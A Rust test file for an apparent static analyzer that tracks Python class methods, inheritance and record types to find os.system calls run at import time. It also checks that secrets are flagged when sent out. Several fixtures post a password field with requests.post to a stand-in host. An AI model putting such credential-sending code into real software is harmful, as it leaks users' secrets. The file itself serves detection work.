//! Claims about what classes and their instances give by name: class methods, inherited methods, records.

#[allow(dead_code, reason = "shared with other tests")]
mod common;
#[path = "common/imported.rs"]
mod imported;

use common::{calls, event, events_of};
use imported::assert_runs_once_at_import;
use venin_model::{OriginKind, Role, Trigger};

#[test]
fn a_class_method_is_called_on_its_class() {
    for (name, source) in [
        (
            "maker",
            "class R:\n    @classmethod\n    def make(cls):\n        return cls()\n    def start(self):\n        os.system('echo')\nR.make().start()",
        ),
        (
            "single object",
            "class R:\n    held = None\n    @classmethod\n    def shared(cls):\n        if cls.held is None:\n            cls.held = cls()\n        return cls.held\n    def start(self):\n        os.system('echo')\nR.shared().start()",
        ),
        (
            "object without a constructor",
            "class R:\n    @classmethod\n    def make(cls):\n        made = cls.__new__(cls)\n        made.word = 'echo'\n        return made\n    def start(self):\n        os.system(self.word)\nR.make().start()",
        ),
        (
            "sibling",
            "class R:\n    @classmethod\n    def make(cls):\n        cls.go()\n    @staticmethod\n    def go():\n        os.system('echo')\nR.make()",
        ),
        (
            "registry",
            "class R:\n    known = []\n    @classmethod\n    def register(cls, f):\n        cls.known.append(f)\n    @classmethod\n    def run(cls):\n        for f in cls.known:\n            f()\nR.register(lambda: os.system('echo'))\nR.run()",
        ),
        (
            "inherited",
            "class A:\n    @classmethod\n    def make(cls):\n        return cls()\nclass B(A):\n    def start(self):\n        os.system('echo')\nB.make().start()",
        ),
        (
            "of an object",
            "class R:\n    @classmethod\n    def make(cls):\n        cls().start()\n    def start(self):\n        os.system('echo')\nR().make()",
        ),
    ] {
        assert_runs_once_at_import(name, source);
    }
}

#[test]
fn a_class_method_reads_the_attributes_of_its_class() {
    let source = "\
import os
class R:
    word = 'echo'
    @classmethod
    def go(cls):
        os.system(cls.word)
R.go()
";
    let found = event(source, "os.system");
    let command = found.argument(Role::Command).and_then(|a| a.value.as_ref());
    assert_eq!(command.map(|v| &*v.text), Some("echo"));
}

#[test]
fn super_is_bound_to_the_first_parameter_whatever_its_name() {
    for (name, source) in [
        (
            "method",
            "class A:\n    def go(this):\n        this.x()\nclass B(A):\n    def x(this):\n        os.system('echo')\n    def go(this):\n        super().go()\nB().go()",
        ),
        (
            "class method",
            "class A:\n    @classmethod\n    def go(cls):\n        cls.x()\nclass B(A):\n    @classmethod\n    def x(cls):\n        os.system('echo')\n    @classmethod\n    def go(cls):\n        super().go()\nB.go()",
        ),
        (
            "constructor",
            "class R:\n    def __new__(cls):\n        made = super().__new__(cls)\n        made.start()\n        return made\n    def start(self):\n        os.system('echo')\nR()",
        ),
    ] {
        assert_runs_once_at_import(name, source);
    }
}

#[test]
fn an_inherited_method_runs_for_each_class_that_has_its_own_hook() {
    let source = "\
import os
class Base:
    def go(self):
        self.hook()
class Quiet(Base):
    def hook(self):
        pass
class Loud(Base):
    def hook(self):
        os.system('echo')
Quiet().go()
Loud().go()
";
    assert_eq!(event(source, "os.system").trigger, Trigger::Import);
    assert_eq!(calls(source), ["os.system"]);
}

/// The ways to make a record of one field and to get it back.
const RECORDS: [(&str, &str, &str); 14] = [
    (
        "data class",
        "from dataclasses import dataclass\n@dataclass\nclass C:\n    word: str",
        "C('echo').word",
    ),
    (
        "data class by keyword",
        "from dataclasses import dataclass\n@dataclass(frozen=True)\nclass C:\n    other: int\n    word: str",
        "C(1, word='echo').word",
    ),
    (
        "inherited",
        "from dataclasses import dataclass\n@dataclass\nclass B:\n    other: int\n@dataclass\nclass C(B):\n    word: str",
        "C(1, 'echo').word",
    ),
    (
        "default",
        "from dataclasses import dataclass, field\n@dataclass\nclass C:\n    word: str = field(default='echo')",
        "C().word",
    ),
    (
        "factory",
        "from dataclasses import dataclass, field\n@dataclass\nclass C:\n    words: list = field(default_factory=lambda: ['echo'])",
        "C().words[0]",
    ),
    (
        "replaced",
        "from dataclasses import dataclass, replace\n@dataclass\nclass C:\n    word: str",
        "replace(C('x'), word='echo').word",
    ),
    (
        "as dictionary",
        "from dataclasses import dataclass, asdict\n@dataclass\nclass C:\n    word: str",
        "asdict(C('echo'))['word']",
    ),
    (
        "typed named tuple",
        "from typing import NamedTuple\nclass C(NamedTuple):\n    other: int\n    word: str",
        "C(1, 'echo')[1]",
    ),
    (
        "named tuple",
        "from collections import namedtuple\nC = namedtuple('C', 'other word')",
        "C(1, 'echo').word",
    ),
    (
        "named tuple, unpacked",
        "from collections import namedtuple\nC = namedtuple('C', ['other', 'word'])\ndef last(c):\n    first, second = c\n    return second",
        "last(C(1, word='echo'))",
    ),
    (
        "named tuple, replaced",
        "from collections import namedtuple\nC = namedtuple('C', 'word')",
        "C('x')._replace(word='echo')._asdict()['word']",
    ),
    (
        "attrs",
        "import attr\n@attr.s\nclass C:\n    other = attr.ib(default=1)\n    word = attr.ib()",
        "C(1, 'echo').word",
    ),
    (
        "attrs, typed",
        "from attrs import define, Factory\n@define\nclass C:\n    word: str\n    all: list = Factory(list)",
        "C('echo').word",
    ),
    ("model", "from pydantic import BaseModel\nclass C(BaseModel):\n    word: str", "C(word='echo').word"),
];

#[test]
fn a_record_holds_what_it_is_given() {
    for (name, class, read) in RECORDS {
        let found = event(&format!("import os\n{class}\nos.system({read})\n"), "os.system");
        let command = found.argument(Role::Command).and_then(|a| a.value.as_ref());
        assert_eq!(command.map(|v| &*v.text), Some("echo"), "{name}");
    }
}

#[test]
fn a_method_of_a_record_reads_its_fields() {
    let source = "\
import os
from dataclasses import dataclass
@dataclass
class C:
    word: str
    def go(self):
        os.system(self.word)
C('echo').go()
";
    let found = event(source, "os.system");
    let command = found.argument(Role::Command).and_then(|a| a.value.as_ref());
    assert_eq!((found.trigger, command.map(|v| &*v.text)), (Trigger::Import, Some("echo")));
}

#[test]
fn a_class_variable_is_no_field() {
    let source = "\
import os
from dataclasses import dataclass
from typing import ClassVar
@dataclass
class C:
    kind: ClassVar[str] = 'x'
    word: str
os.system(C('echo').word)
";
    let found = event(source, "os.system");
    let command = found.argument(Role::Command).and_then(|a| a.value.as_ref());
    assert_eq!(command.map(|v| &*v.text), Some("echo"));
}

/// Whether what a module sends when somebody uses it is a secret of the caller.
#[track_caller]
fn assert_sends_secret(name: &str, body: &str) {
    let events = events_of(&format!("import requests\n{body}\n"));
    let sent = events.iter().filter(|e| &*e.name == "requests.post").filter_map(|e| e.argument(Role::Data));
    let kinds: Vec<_> = sent.map(|data| data.origins.kinds).collect();
    let is_secret = kinds.iter().any(|k| k.contains(OriginKind::Argument) && k.contains(OriginKind::Secret));
    assert!(is_secret, "{name}: {kinds:?}");
}

#[test]
fn a_field_that_nobody_gives_is_what_a_caller_passes() {
    for (name, body) in [
        (
            "field",
            "from dataclasses import dataclass\n@dataclass\nclass C:\n    user: str\n    password: str\n    def go(self):\n        requests.post('https://a.example', data=self.password)",
        ),
        (
            "field left out",
            "from dataclasses import dataclass\n@dataclass\nclass C:\n    user: str\n    password: str = None\n    def go(self):\n        requests.post('https://a.example', data=self.password)",
        ),
        (
            "parameter of the class",
            "from dataclasses import dataclass\n@dataclass\nclass C:\n    password: str\n    def text(self):\n        return self.password\ndef go(c: C):\n    requests.post('https://a.example', data=c.text())",
        ),
        (
            "optional parameter",
            "class C:\n    def __init__(self, password):\n        self.p = password\ndef go(c: 'C | None'):\n    requests.post('https://a.example', data=c.password)",
        ),
        (
            "dictionary",
            "from dataclasses import dataclass, asdict\n@dataclass\nclass C:\n    password: str\n    def go(self):\n        requests.post('https://a.example', data=asdict(self))",
        ),
        (
            "check of a field",
            "from pydantic import BaseModel, field_validator\nclass C(BaseModel):\n    password: str\n    @field_validator('password')\n    @classmethod\n    def v(cls, x):\n        requests.post('https://a.example', data=x)\n    def go(self):\n        pass",
        ),
        (
            "model",
            "from pydantic import BaseModel\nclass C(BaseModel):\n    password: str\n    def go(self):\n        requests.post('https://a.example', data=self.model_dump())",
        ),
    ] {
        assert_sends_secret(name, body);
    }
}

#[test]
fn a_factory_of_a_default_runs_once_for_each_object() {
    assert_runs_once_at_import(
        "factory",
        "from dataclasses import dataclass, field\ndef make():\n    os.system('echo')\n@dataclass\nclass C:\n    x: list = field(default_factory=make)\nC()",
    );
}
